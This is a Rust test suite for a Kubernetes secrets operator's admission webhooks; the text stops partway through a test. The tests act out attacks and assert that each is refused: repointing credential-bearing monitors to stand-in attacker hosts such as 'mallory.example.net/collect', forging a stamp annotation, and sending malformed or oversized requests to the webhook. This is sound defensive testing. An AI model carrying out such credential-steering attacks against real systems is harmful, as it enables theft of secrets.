//! The admission webhooks on the real control plane, as several users: the authorization
//! matrix of the `use` verb, the admission stamp, sealing of a `kubectl apply`, the delete
//! guards, bad input, and a webhook that is down.
//!
//! Every test runs its own `monivault run`, which serves the webhooks on a free loopback
//! port with a self-managed certificate and registers them with `url:` client configs,
//! scoped to the test's namespace (the configurations are named after the test's store
//! namespace, so tests running at once do not see each other's).
//!
//! Users get the shipped ClusterRoles (`examples/rbac/`): everyone `monivault-edit`, which
//! does not imply `use`; alice `use` on the two shop items by name; bob (group
//! `checkout-team`) and the `deployer` ServiceAccount `use` on the `checkout` section.

mod support;

use std::sync::Arc;

use base64::Engine as _;
use k8s_openapi::api::admissionregistration::v1::MutatingWebhookConfiguration;
use k8s_openapi::api::core::v1::{Namespace, Secret};
use k8s_openapi::api::rbac::v1::{PolicyRule, Role, RoleBinding, RoleRef, Subject};
use kube::api::{Api, DeleteParams, ListParams, ObjectMeta, Patch, PatchParams, PostParams};
use kube::{Client, ResourceExt as _};
use monivault::api::vault_item::VaultItem;
use monivault::api::vault_section::VaultSection;
use monivault::api::{Monitor, MonitorRun};
use monivault::stamp::{self, STAMP_ANNOTATION, StampError};
use monivault::store::Keys;
use monivault::store::SecretStore;
use serde_json::{Value, json};
use support::{
    Cluster, Operator, cluster, eventually, fresh, http_get, https_post, ready_condition, stderr,
    stdout,
};

/// A namespace with the shop's section, items and monitor, behind a running operator with
/// its webhooks registered.
struct World {
    c: &'static Cluster,
    /// The plaintexts of the two items, for the leak scans.
    login_password: String,
    api_token: String,
    ns: String,
    store_ns: String,
    op: Operator,
    admin: Client,
}

impl World {
    async fn new(prefix: &str) -> World {
        World::with_before(prefix, |_, _| async {}).await
    }

    /// `before` runs in the namespace before the operator (and its webhooks) exist.
    async fn with_before<F, Fut>(prefix: &str, before: F) -> World
    where
        F: FnOnce(Client, String) -> Fut,
        Fut: Future<Output = ()>,
    {
        World::with_before_and(prefix, before, &[]).await
    }

    /// [`World::with_before`], with more `monivault run` arguments.
    async fn with_before_and<F, Fut>(prefix: &str, before: F, operator_args: &[&str]) -> World
    where
        F: FnOnce(Client, String) -> Fut,
        Fut: Future<Output = ()>,
    {
        let c = cluster();
        let admin = c.admin().await;
        let ns = c.temp_namespace(prefix).await;
        let store_ns = c.temp_namespace(&format!("{prefix}-store")).await;
        grant_roles(c, &admin, &ns).await;
        before(admin.clone(), ns.clone()).await;

        let op = Operator::start_with_webhooks_and(c, &store_ns, &ns, operator_args);
        let world = World {
            c,
            login_password: support::secret("e2e-webhook-Pa55word"),
            api_token: support::secret("e2e-webhook-token"),
            ns,
            store_ns,
            op,
            admin,
        };
        let sections: Api<VaultSection> = world.api();
        let section = serde_json::from_value(json!({
            "apiVersion": "monivault.io/v1alpha1", "kind": "VaultSection",
            "metadata": {"name": "checkout"}, "spec": {"description": "e2e"},
        }))
        .expect("section");
        sections
            .create(&PostParams::default(), &section)
            .await
            .expect("create the section");
        // Until the webhook is registered and serving, the API server's CEL rule refuses
        // a plaintext: the first item that goes in proves the webhook is in the path.
        let login = plaintext_login("shop-login", &world.login_password);
        let items: Api<VaultItem> = world.api();
        eventually("the webhook to seal a plaintext item", || {
            let (items, login) = (items.clone(), login.clone());
            async move { items.create(&PostParams::default(), &login).await.ok() }
        })
        .await;
        let token: VaultItem = serde_json::from_value(json!({
            "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
            "metadata": {"name": "shop-api-token"},
            "spec": {"type": "Secret", "section": "checkout",
                     "allowedHosts": ["shop.example.com"], "secret": {"value": world.api_token}},
        }))
        .expect("token item");
        items
            .create(&PostParams::default(), &token)
            .await
            .expect("create the token item");
        world
            .monitors()
            .create(&PostParams::default(), &shop_monitor("shop"))
            .await
            .expect("the admin creates the shop monitor");
        world
    }

    fn api<K>(&self) -> Api<K>
    where
        K: kube::Resource<Scope = k8s_openapi::NamespaceResourceScope>,
        <K as kube::Resource>::DynamicType: Default,
    {
        Api::namespaced(self.admin.clone(), &self.ns)
    }

    fn monitors(&self) -> Api<Monitor> {
        self.api()
    }

    async fn as_user(&self, user: &str, groups: &[&str]) -> Client {
        self.c.user(user, groups).await
    }

    async fn as_service_account(&self, name: &str) -> Client {
        self.c.service_account(&self.ns, name).await
    }

    /// The keys the operator stamps with, read from its store as the runner will.
    async fn keys(&self) -> Keys<SecretStore> {
        Keys::bootstrap(Arc::new(SecretStore::new(
            self.admin.clone(),
            &self.store_ns,
        )))
        .await
        .expect("the operator's keys")
    }

    /// The base URL the operator registered its webhooks at.
    async fn webhook_url(&self) -> String {
        let configs: Api<MutatingWebhookConfiguration> = Api::all(self.admin.clone());
        let config = configs.get(&self.store_ns).await.expect("registered");
        let url = config.webhooks.unwrap_or_default()[0]
            .client_config
            .url
            .clone()
            .expect("a url client config");
        let (base, _) = url.split_at(url.find("/mutate").expect("a mutate path"));
        base.to_owned()
    }
}

fn plaintext_login(name: &str, password: &str) -> VaultItem {
    serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
        "metadata": {"name": name},
        "spec": {"type": "CredentialSet", "section": "checkout",
                 "allowedHosts": ["shop.example.com"],
                 "credentialSet": {"username": "synthetic-bot", "password": password}},
    }))
    .expect("item")
}

fn shop_monitor(name: &str) -> Monitor {
    serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "Monitor",
        "metadata": {"name": name},
        "spec": {
            "url": "https://shop.example.com/login",
            "auth": {"basic": {"credentialSet": "shop-login"}},
            "headers": [{"name": "X-Api-Key", "value": "{{@VaultItem.shop-api-token.Value}}"}],
        },
    }))
    .expect("monitor")
}

/// The shipped ClusterRoles, and who holds what in `ns`.
async fn grant_roles(c: &Cluster, admin: &Client, ns: &str) {
    let out = c.kubectl(&[
        "apply",
        "--server-side",
        "--force-conflicts",
        "--field-manager=e2e-webhook",
        "-f",
        "examples/rbac/clusterroles.yaml",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = c.kubectl(&["apply", "-n", ns, "-f", "examples/rbac/use-checkout.yaml"]);
    assert!(out.status.success(), "{}", stderr(&out));

    let roles: Api<Role> = Api::namespaced(admin.clone(), ns);
    let use_by_name = Role {
        metadata: ObjectMeta {
            name: Some("use-shop-items".into()),
            ..ObjectMeta::default()
        },
        rules: Some(vec![PolicyRule {
            api_groups: Some(vec!["monivault.io".into()]),
            resources: Some(vec!["vaultitems".into()]),
            resource_names: Some(vec!["shop-login".into(), "shop-api-token".into()]),
            verbs: vec!["use".into()],
            ..PolicyRule::default()
        }]),
    };
    roles
        .create(&PostParams::default(), &use_by_name)
        .await
        .expect("role");
    let bindings: Api<RoleBinding> = Api::namespaced(admin.clone(), ns);
    let user = |name: &str| Subject {
        kind: "User".into(),
        api_group: Some("rbac.authorization.k8s.io".into()),
        name: name.into(),
        namespace: None,
    };
    let service_account = |name: &str| Subject {
        kind: "ServiceAccount".into(),
        api_group: None,
        name: name.into(),
        namespace: Some(ns.to_owned()),
    };
    let binding = |name: &str, kind: &str, role: &str, subjects: Vec<Subject>| RoleBinding {
        metadata: ObjectMeta {
            name: Some(name.into()),
            ..ObjectMeta::default()
        },
        role_ref: RoleRef {
            api_group: Some("rbac.authorization.k8s.io".into()),
            kind: kind.into(),
            name: role.into(),
        },
        subjects: Some(subjects),
    };
    for b in [
        binding(
            "everyone-edits",
            "ClusterRole",
            "monivault-edit",
            vec![user("alice"), user("mallory"), service_account("intruder")],
        ),
        binding(
            "alice-uses-shop-items",
            "Role",
            "use-shop-items",
            vec![user("alice")],
        ),
    ] {
        bindings
            .create(&PostParams::default(), &b)
            .await
            .expect("binding");
    }
}

/// A loopback port that accepts connections and never answers: a run against it stays
/// Running for its whole timeout. The handle keeps the connections open.
async fn tarpit() -> (u16, tokio::task::JoinHandle<()>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let port = listener.local_addr().expect("address").port();
    let held = tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((socket, _)) = listener.accept().await {
            held.push(socket);
        }
    });
    (port, held)
}

/// The API error of a refused write: its code and message.
fn refused<T: std::fmt::Debug>(result: Result<T, kube::Error>) -> (u16, String) {
    match result {
        Err(kube::Error::Api(status)) => (status.code, status.message.clone()),
        other => panic!("expected a refusal, got {other:?}"),
    }
}

/// Fails unless `refusal` is the monitor webhook's own answer that `user` lacks `use` on
/// exactly `items` (as it lists them) in `ns`, for a write of `kind`: a 403 from RBAC, or
/// a refusal for any other reason, does not pass.
fn assert_refused_for_use(refusal: (u16, String), user: &str, items: &str, ns: &str, kind: &str) {
    let (code, message) = refusal;
    assert_eq!(code, 403, "{message}");
    let expected = format!(
        "admission webhook \"monitors.mutate.monivault.io\" denied the request: user {user:?} may not use vault item(s) {items} in namespace {ns:?}: this {kind} carries them"
    );
    assert!(
        message.starts_with(&expected),
        "{message}\nexpected: {expected}"
    );
}

fn url_patch(url: &str) -> Patch<Value> {
    Patch::Merge(json!({"spec": {"url": url}}))
}

// ---------------------------------------------------------------------------------------
// The authorization matrix

#[tokio::test]
async fn without_use_a_user_cannot_steer_unhook_or_reuse_an_item() {
    let w = World::new("wh-deny").await;
    let mallory: Api<Monitor> = Api::namespaced(w.as_user("mallory", &["dev"]).await, &w.ns);
    let pp = PatchParams::default();
    let both = "shop-api-token, shop-login";
    // After every refusal the monitor is exactly as the admin left it: spec and stamp.
    let before = w.monitors().get("shop").await.expect("monitor");
    let assert_untouched = || async {
        let now = w.monitors().get("shop").await.expect("monitor");
        assert_eq!(now.spec, before.spec, "the spec is as it was");
        assert_eq!(
            now.annotations().get(STAMP_ANNOTATION),
            before.annotations().get(STAMP_ANNOTATION),
            "the stamp is as it was"
        );
        assert_eq!(now.metadata.generation, before.metadata.generation);
    };

    // Point the monitor at her own host.
    let refusal = refused(
        mallory
            .patch(
                "shop",
                &pp,
                &url_patch("https://mallory.example.net/collect"),
            )
            .await,
    );
    assert_refused_for_use(refusal, "mallory", both, &w.ns, "Monitor");
    assert_untouched().await;

    // Remove the references (which moves where the other items go, and hides the change).
    let unhook = Patch::Merge(json!({"spec": {"auth": null, "headers": null}}));
    let refusal = refused(mallory.patch("shop", &pp, &unhook).await);
    assert_refused_for_use(refusal, "mallory", both, &w.ns, "Monitor");
    assert_untouched().await;

    // Add the item to a monitor of her own.
    let mut own = shop_monitor("mallory-monitor");
    own.spec.url = "https://mallory.example.net/".into();
    let refusal = refused(mallory.create(&PostParams::default(), &own).await);
    assert_refused_for_use(refusal, "mallory", both, &w.ns, "Monitor");
    assert!(
        mallory.get_opt("mallory-monitor").await.unwrap().is_none(),
        "nothing was stored"
    );

    // A ServiceAccount without `use` is refused the same way, under its full name.
    let intruder: Api<Monitor> = Api::namespaced(w.as_service_account("intruder").await, &w.ns);
    let refusal = refused(
        intruder
            .patch("shop", &pp, &url_patch("https://intruder.example.net/"))
            .await,
    );
    let name = format!("system:serviceaccount:{}:intruder", w.ns);
    assert_refused_for_use(refusal, &name, both, &w.ns, "Monitor");
    assert_untouched().await;
}

#[tokio::test]
async fn a_metadata_only_change_needs_no_use_and_keeps_the_stamp() {
    let w = World::new("wh-meta").await;
    let before = w.monitors().get("shop").await.unwrap();
    let mallory: Api<Monitor> = Api::namespaced(w.as_user("mallory", &["dev"]).await, &w.ns);
    let labels = Patch::Merge(json!({"metadata": {"labels": {"team": "web"},
        "annotations": {STAMP_ANNOTATION: "{\"v\":1,\"forged\":true}"}}}));
    let after = mallory
        .patch("shop", &PatchParams::default(), &labels)
        .await
        .expect("a label change is allowed");
    assert_eq!(after.labels().get("team").map(String::as_str), Some("web"));
    assert_eq!(
        after.annotations().get(STAMP_ANNOTATION),
        before.annotations().get(STAMP_ANNOTATION),
        "the stamp cannot be replaced by a metadata change"
    );
    stamp::verify(&w.keys().await, &after)
        .await
        .expect("still verifies");
}

#[tokio::test]
async fn without_use_a_user_cannot_test_now() {
    let w = World::new("wh-run").await;
    let by_ref: MonitorRun = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "MonitorRun",
        "metadata": {"generateName": "test-now-"},
        "spec": {"monitorRef": {"name": "shop"}},
    }))
    .unwrap();
    let inline: MonitorRun = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "MonitorRun",
        "metadata": {"generateName": "test-now-"},
        "spec": {"monitor": {
            "url": "https://mallory.example.net/collect",
            "headers": [{"name": "X-Api-Key", "value": "{{@VaultItem.shop-api-token.Value}}"}],
        }},
    }))
    .unwrap();

    let mallory: Api<MonitorRun> = Api::namespaced(w.as_user("mallory", &["dev"]).await, &w.ns);
    let refusal = refused(mallory.create(&PostParams::default(), &by_ref).await);
    let both = "shop-api-token, shop-login";
    assert_refused_for_use(refusal, "mallory", both, &w.ns, "MonitorRun");
    let refusal = refused(mallory.create(&PostParams::default(), &inline).await);
    assert_refused_for_use(refusal, "mallory", "shop-api-token", &w.ns, "MonitorRun");
    let runs: Api<MonitorRun> = w.api();
    let stored = runs.list(&ListParams::default()).await.expect("list runs");
    assert!(
        stored.items.is_empty(),
        "a refused Test Now left a run: {:?}",
        stored
            .items
            .iter()
            .map(|r| r.name_any())
            .collect::<Vec<_>>()
    );

    // alice (items by name) may test the monitor; the run is stamped for her under the
    // name the API server generated.
    let alice: Api<MonitorRun> = Api::namespaced(w.as_user("alice", &[]).await, &w.ns);
    let run = alice
        .create(&PostParams::default(), &by_ref)
        .await
        .expect("alice may test the shop monitor");
    let refs = stamp::verify_run(&w.keys().await, &run)
        .await
        .expect("the run's stamp verifies");
    assert_eq!(refs.user, "alice");
    assert!(refs.items.contains_key("shop-login"));
}

#[tokio::test]
async fn use_on_the_item_or_its_section_allows_the_change_for_users_and_service_accounts() {
    let w = World::new("wh-allow").await;
    let keys = w.keys().await;
    let cases = [
        (
            "alice (use on the items by name)",
            w.as_user("alice", &[]).await,
            "alice",
        ),
        (
            "bob (use on the section, through his group)",
            w.as_user("bob", &["checkout-team"]).await,
            "bob",
        ),
        (
            "the deployer ServiceAccount (use on the section)",
            w.as_service_account("deployer").await,
            "system:serviceaccount:",
        ),
    ];
    for (i, (who, client, user)) in cases.into_iter().enumerate() {
        let monitors: Api<Monitor> = Api::namespaced(client, &w.ns);
        let url = format!("https://shop.example.com/login?step={i}");
        let changed = monitors
            .patch("shop", &PatchParams::default(), &url_patch(&url))
            .await
            .unwrap_or_else(|e| panic!("{who}: {e}"));
        assert_eq!(changed.spec.url, url, "{who}");
        let refs = stamp::verify(&keys, &changed)
            .await
            .unwrap_or_else(|e| panic!("{who}: {e}"));
        assert!(refs.user.starts_with(user), "{who}: {}", refs.user);
        assert_eq!(refs.items.len(), 2, "{who}");
    }
}

#[tokio::test]
async fn a_revoked_use_stops_admitting_once_the_access_review_cache_ttl_is_over() {
    let ttl = ["--access-review-cache-ttl", "3s"];
    let w = World::with_before_and("wh-revoke", |_, _| async {}, &ttl).await;
    let alice: Api<Monitor> = Api::namespaced(w.as_user("alice", &[]).await, &w.ns);
    let pp = PatchParams::default();
    let allowed_url = "https://shop.example.com/login?by=alice";
    alice
        .patch("shop", &pp, &url_patch(allowed_url))
        .await
        .expect("alice holds use on both items by name");

    // Her grant goes. Within the TTL the webhook may still answer from its cache; after
    // it, the revocation counts. (The unit tests of the cache pin the TTL itself.)
    w.api::<RoleBinding>()
        .delete("alice-uses-shop-items", &Default::default())
        .await
        .expect("revoke");
    let mut attempt = 0;
    let (code, message) = eventually("the revoked use to be refused", || {
        attempt += 1;
        let (alice, url) = (
            alice.clone(),
            format!("https://alice.example.net/{attempt}"),
        );
        async move {
            match alice
                .patch("shop", &PatchParams::default(), &url_patch(&url))
                .await
            {
                Err(kube::Error::Api(status)) => Some((status.code, status.message)),
                Err(e) => panic!("not an admission answer: {e}"),
                Ok(_) => None,
            }
        }
    })
    .await;
    assert_eq!(code, 403, "{message}");
    assert!(message.contains("\"alice\""), "{message}");
    assert!(message.contains("shop-api-token, shop-login"), "{message}");

    // What alice wrote while the cache still allowed it was hers to write until then; the
    // refused write left nothing.
    let stored = w.monitors().get("shop").await.expect("monitor");
    assert!(
        stored.spec.url == allowed_url || stored.spec.url.starts_with("https://alice.example.net/"),
        "{}",
        stored.spec.url
    );
    let refused_url = format!("https://alice.example.net/{attempt}");
    assert_ne!(
        stored.spec.url, refused_url,
        "the refused write is not stored"
    );
}

#[tokio::test]
async fn a_monitor_written_while_the_webhook_was_not_registered_carries_no_stamp() {
    let w = World::with_before("wh-legacy", |admin, ns| async move {
        let monitors: Api<Monitor> = Api::namespaced(admin, &ns);
        monitors
            .create(&PostParams::default(), &shop_monitor("legacy"))
            .await
            .expect("no webhook yet");
    })
    .await;
    let keys = w.keys().await;
    let legacy = w.monitors().get("legacy").await.unwrap();
    let error = stamp::verify(&keys, &legacy).await.unwrap_err();
    assert!(matches!(error, StampError::Missing { .. }), "{error}");

    // Someone permitted applies it again: now it is stamped.
    let alice: Api<Monitor> = Api::namespaced(w.as_user("alice", &[]).await, &w.ns);
    let reapplied = alice
        .patch(
            "legacy",
            &PatchParams::default(),
            &url_patch("https://shop.example.com/login?v=2"),
        )
        .await
        .expect("alice may");
    stamp::verify(&keys, &reapplied).await.expect("stamped now");
}

// ---------------------------------------------------------------------------------------
// Plaintext writes

#[tokio::test]
async fn kubectl_apply_of_a_plaintext_is_sealed_and_the_plaintext_is_nowhere() {
    let password = support::secret("e2e-apply-Hunter2");
    let started = std::time::SystemTime::now();
    let w = World::new("wh-apply").await;
    let manifest = format!(
        "apiVersion: monivault.io/v1alpha1\nkind: VaultItem\nmetadata:\n  name: applied\nspec:\n  type: CredentialSet\n  section: checkout\n  allowedHosts: [shop.example.com]\n  credentialSet:\n    username: bot\n    password: {password}\n"
    );
    let out =
        w.c.kubectl_stdin(&["apply", "-n", &w.ns, "-f", "-"], &manifest);
    assert!(out.status.success(), "{}", stderr(&out));

    let out =
        w.c.kubectl(&["get", "-n", &w.ns, "vaultitem", "applied", "-o", "yaml"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let yaml = stdout(&out);
    assert!(
        !yaml.contains(&password),
        "the plaintext came back:\n{yaml}"
    );
    let items: Api<VaultItem> = w.api();
    let item = items.get("applied").await.unwrap();
    let value = serde_json::to_value(&item).unwrap();
    assert_eq!(value["spec"]["credentialSet"]["password"], "*****");
    assert!(
        value["spec"]["sealed"]["password"]
            .as_str()
            .is_some_and(|s| s.starts_with("mv2.s.")),
        "{value}"
    );
    let last_applied =
        value["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"]
            .as_str()
            .expect("kubectl wrote the annotation");
    assert!(last_applied.contains("*****"), "{last_applied}");

    // Applying the same file again changes nothing: GitOps sees no drift. (Compared once
    // the controller has added its finalizer and status, which change the version.)
    let ready = ready_condition(&items, "applied", "True").await;
    let out =
        w.c.kubectl_stdin(&["apply", "-n", &w.ns, "-f", "-"], &manifest);
    assert!(out.status.success(), "{}", stderr(&out));
    let again = items.get("applied").await.unwrap();
    assert_eq!(again.metadata.generation, ready.metadata.generation);
    assert_eq!(again.spec, ready.spec, "a second apply changed the spec");
    assert_eq!(again.annotations(), ready.annotations());

    let plaintexts = [
        password.as_str(),
        w.login_password.as_str(),
        w.api_token.as_str(),
    ];
    w.c.assert_not_in_etcd(&plaintexts);
    let audit = w.c.audit_log_since(started);
    assert!(
        audit.contains(&w.ns),
        "the audit log records this test's requests"
    );
    for plaintext in plaintexts {
        let b64 = base64::engine::general_purpose::STANDARD.encode(plaintext);
        assert!(
            !audit.contains(plaintext),
            "a plaintext is in the audit log"
        );
        assert!(
            !audit.contains(&b64),
            "a plaintext's base64 is in the audit log"
        );
    }

    // The operator counted what it sealed.
    let (status, metrics) = http_get(w.op.ops_addr().await, "/metrics")
        .await
        .expect("metrics");
    assert_eq!(status, 200);
    let sealed = metrics
        .lines()
        .find_map(|l| {
            l.strip_prefix(
                "monivault_admission_requests_total{webhook=\"mutate_vaultitems\",outcome=\"allowed\"} ",
            )
        })
        .and_then(|v| v.trim().parse::<f64>().ok())
        .unwrap_or_else(|| panic!("no admission counter in:\n{metrics}"));
    assert!(sealed >= 3.0, "{sealed}");
    assert!(metrics.contains("monivault_admission_duration_seconds_bucket{"));
    assert!(!metrics.contains(&password), "metrics never carry values");
}

#[tokio::test]
async fn with_the_webhook_down_a_plaintext_is_refused_and_nothing_is_stored() {
    let password = support::secret("e2e-down-Secret");
    let mut w = World::new("wh-down").await;
    w.op.kill();
    let items: Api<VaultItem> = w.api();
    let manifest = serde_json::to_string(&plaintext_login("while-down", &password)).unwrap();
    let out =
        w.c.kubectl_stdin(&["apply", "-n", &w.ns, "-f", "-"], &manifest);
    assert!(!out.status.success(), "applied with the webhook down");
    let message = stderr(&out);
    assert!(
        message.contains("failed calling webhook"),
        "refused by the unreachable webhook: {message}"
    );
    assert!(!message.contains(&password), "{message}");
    assert!(items.get_opt("while-down").await.unwrap().is_none());
    w.c.assert_not_in_etcd(&[password.as_str()]);

    // Monitors cannot be changed unchecked either.
    let (_, message) = refused(
        w.monitors()
            .patch(
                "shop",
                &PatchParams::default(),
                &url_patch("https://x.example/"),
            )
            .await,
    );
    assert!(message.contains("failed calling webhook"), "{message}");
}

// ---------------------------------------------------------------------------------------
// Delete guards

#[tokio::test]
async fn an_item_in_use_and_a_section_with_items_are_not_deleted_until_the_namespace_goes() {
    let w = World::new("wh-delete").await;
    let items: Api<VaultItem> = w.api();
    let sections: Api<VaultSection> = w.api();
    let dp = DeleteParams::default();

    let (code, message) = refused(items.delete("shop-login", &dp).await);
    assert_eq!(code, 409, "{message}");
    assert!(message.contains("used by Monitor(s) shop"), "{message}");
    let (code, message) = refused(sections.delete("checkout", &dp).await);
    assert_eq!(code, 409, "{message}");
    assert!(message.contains("shop-api-token, shop-login"), "{message}");
    assert!(items.get_opt("shop-login").await.unwrap().is_some());

    // Once the monitor no longer uses it, the item may go.
    let mut unhooked = w.monitors().get("shop").await.unwrap();
    unhooked.spec.auth = None;
    w.monitors()
        .replace("shop", &PostParams::default(), &unhooked)
        .await
        .expect("the admin unhooks shop-login");
    items
        .delete("shop-login", &dp)
        .await
        .expect("an unused item may be deleted");

    // A namespace being deleted is never held up (no controller-manager runs here, so it
    // stays Terminating and we can watch the guards stand aside).
    Api::<Namespace>::all(w.admin.clone())
        .delete(&w.ns, &dp)
        .await
        .expect("delete the namespace");
    eventually(
        "the section to be deleted in a terminating namespace",
        || {
            let sections = sections.clone();
            async move {
                sections
                    .delete("checkout", &DeleteParams::default())
                    .await
                    .ok()
            }
        },
    )
    .await;
    items
        .delete("shop-api-token", &dp)
        .await
        .expect("items go with their namespace, monitor or not");
}

// ---------------------------------------------------------------------------------------
// Bad input

#[tokio::test]
async fn hostile_placeholders_and_malformed_reviews_get_clean_errors() {
    let mut w = World::new("wh-bad").await;
    let cases = [
        (
            "https://shop.example.com/{{@VaultItem.shop-login.Password",
            "offset",
        ),
        (
            "https://shop.example.com/{{@VaultItem.shop-login.Pin}}",
            "Pin",
        ),
        (
            "https://shop.example.com/{{@VaultItem..Password}}",
            "offset",
        ),
    ];
    for (i, (url, expected)) in cases.into_iter().enumerate() {
        let mut monitor = shop_monitor(&format!("hostile-{i}"));
        monitor.spec.url = url.to_owned();
        let (code, message) = refused(w.monitors().create(&PostParams::default(), &monitor).await);
        assert_eq!(code, 422, "{url}: {message}");
        assert!(message.contains(expected), "{url}: {message}");
    }

    // Straight to the webhook, as a hostile client on the network would, over TLS that
    // verifies against the operator's own CA.
    let url = w.webhook_url().await;
    let addr: std::net::SocketAddr = url
        .trim_start_matches("https://")
        .parse()
        .expect("an address");
    let tls: Api<Secret> = Api::namespaced(w.admin.clone(), &w.store_ns);
    let ca = tls
        .get("monivault-webhook-tls")
        .await
        .expect("the self-managed certificate")
        .data
        .and_then(|d| d.get("ca.crt").cloned())
        .expect("ca.crt")
        .0;
    let post = |path: &'static str, body: Vec<u8>, declared: Option<usize>| {
        let ca = ca.clone();
        async move {
            let (status, text) = https_post(addr, &ca, path, &body, declared).await;
            assert_eq!(
                status, 200,
                "{path}: the server answers with a review: {text}"
            );
            text
        }
    };
    let malformed = post(
        "/mutate/vaultitems",
        b"{\"kind\": \"AdmissionReview\", ".to_vec(),
        None,
    )
    .await;
    assert!(malformed.contains("\"allowed\":false"), "{malformed}");
    assert!(malformed.contains("\"code\":400"), "{malformed}");
    let wrong = post(
        "/validate/monitors",
        json!({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
               "request": {"uid": "u1", "operation": 7}})
        .to_string()
        .into_bytes(),
        None,
    )
    .await;
    assert!(wrong.contains("\"allowed\":false"), "{wrong}");
    // Refused by its Content-Length, before a byte of the body is read.
    let oversized = post("/mutate/vaultitems", Vec::new(), Some(4 * 1024 * 1024)).await;
    assert!(oversized.contains("\"code\":413"), "{oversized}");
    assert!(
        w.op.is_running(),
        "the operator survived:\n{}",
        w.op.stderr()
    );

    // And it still works.
    let items: Api<VaultItem> = w.api();
    items
        .create(
            &PostParams::default(),
            &plaintext_login("after-bad-input", &support::secret("e2e-after-bad-Input")),
        )
        .await
        .expect("still sealing");
}

// ---------------------------------------------------------------------------------------
// The in-cluster registration

#[tokio::test]
async fn the_printed_registration_is_accepted_by_the_api_server() {
    let c = cluster();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_monivault"))
        .args(["webhooks", "--name", &fresh("e2e-printed")])
        .args(["--service-namespace", "monivault-system"])
        .args(["--only-namespace", "team-a,team-b"])
        .output()
        .expect("run monivault webhooks");
    assert!(out.status.success(), "{}", stderr(&out));
    let yaml = stdout(&out);
    assert_eq!(yaml.matches("kind: ").count(), 2, "{yaml}");
    assert!(yaml.contains("failurePolicy: Fail"), "{yaml}");
    assert!(yaml.contains("sideEffects: NoneOnDryRun"), "{yaml}");
    let out = c.kubectl_stdin(&["apply", "--dry-run=server", "-f", "-"], &yaml);
    assert!(out.status.success(), "{}\n{yaml}", stderr(&out));
    assert_eq!(
        stdout(&out).matches("(server dry run)").count(),
        2,
        "{}",
        stdout(&out)
    );
}

#[tokio::test]
async fn a_gitops_server_side_apply_keeps_a_valid_stamp_and_shows_no_drift() {
    let w = World::new("wh-ssa").await;
    let keys = w.keys().await;
    // The deployer ServiceAccount (use on the section) applies the monitor from Git with
    // server-side apply, as Argo CD and Flux do. The manifest has no stamp annotation, so
    // the apply owns one it does not send.
    let deployer: Api<Monitor> = Api::namespaced(w.as_service_account("deployer").await, &w.ns);
    let mut desired = shop_monitor("gitops");
    desired.spec.url = "https://shop.example.com/from-git".into();
    let params = PatchParams::apply("argocd-controller").force();
    let first = deployer
        .patch("gitops", &params, &Patch::Apply(&desired))
        .await
        .expect("first apply");
    stamp::verify(&keys, &first).await.expect("stamped");

    // The same manifest again: nothing changes, and the stamp stays.
    let second = deployer
        .patch("gitops", &params, &Patch::Apply(&desired))
        .await
        .expect("second apply");
    assert_eq!(second.metadata.generation, first.metadata.generation);
    assert_eq!(
        second.annotations().get(STAMP_ANNOTATION),
        first.annotations().get(STAMP_ANNOTATION)
    );
    stamp::verify(&keys, &second).await.expect("still stamped");

    // A change in Git is stamped again, for the deployer.
    desired.spec.url = "https://shop.example.com/from-git?v=2".into();
    let third = deployer
        .patch("gitops", &params, &Patch::Apply(&desired))
        .await
        .expect("changed apply");
    let refs = stamp::verify(&keys, &third).await.expect("re-stamped");
    assert!(refs.user.ends_with(":deployer"), "{}", refs.user);
}

// ---------------------------------------------------------------------------------------
// The attacks of the security review, performed as written; each fails to reach its goal.
// bob is the partly trusted attacker: `edit` in the namespace and `use` on section
// `checkout` (group `checkout-team`), nothing on section `payments`.

/// The `payments` section with item `db` (plaintext `password`, sealed by the webhook), and
/// the admin's monitor `bank` that carries it.
async fn payments_db(w: &World, password: &str) -> VaultItem {
    let sections: Api<VaultSection> = w.api();
    let section = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultSection",
        "metadata": {"name": "payments"}, "spec": {"description": "e2e"},
    }))
    .expect("section");
    sections
        .create(&PostParams::default(), &section)
        .await
        .expect("create the payments section");
    let db: VaultItem = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
        "metadata": {"name": "db"},
        "spec": {"type": "CredentialSet", "section": "payments",
                 "allowedHosts": ["bank.example.com"],
                 "credentialSet": {"username": "payments-bot", "password": password}},
    }))
    .expect("db item");
    let items: Api<VaultItem> = w.api();
    items
        .create(&PostParams::default(), &db)
        .await
        .expect("create db");
    let bank: Monitor = serde_json::from_value(json!({
        "apiVersion": "monivault.io/v1alpha1", "kind": "Monitor",
        "metadata": {"name": "bank"},
        "spec": {"url": "https://bank.example.com/", "auth": {"basic": {"credentialSet": "db"}}},
    }))
    .expect("bank monitor");
    w.monitors()
        .create(&PostParams::default(), &bank)
        .await
        .expect("the admin creates the bank monitor");
    ready_condition(&items, "db", "True").await
}

#[tokio::test]
async fn attack_a1_a_sealed_value_copied_into_a_section_bob_may_use_opens_nothing() {
    let w = World::new("wh-a1").await;
    let password = support::secret("e2e-a1-db-password");
    let db = payments_db(&w, &password).await;
    let bob = w.as_user("bob", &["checkout-team"]).await;
    let bob_items: Api<VaultItem> = Api::namespaced(bob.clone(), &w.ns);
    let bob_monitors: Api<Monitor> = Api::namespaced(bob.clone(), &w.ns);

    // 1. He reads db's sealed value: sealed values are public by design.
    let copied = bob_items
        .get("db")
        .await
        .expect("bob may get items")
        .spec
        .sealed_value(monivault::api::SecretField::Password)
        .expect("db is sealed")
        .to_owned();
    // 2. He deletes the monitor that uses db (deleting a monitor is not checked) ...
    bob_monitors
        .delete("bank", &DeleteParams::default())
        .await
        .expect("bob may delete a monitor");
    // ... but may not delete db, which holds a secret he may not use.
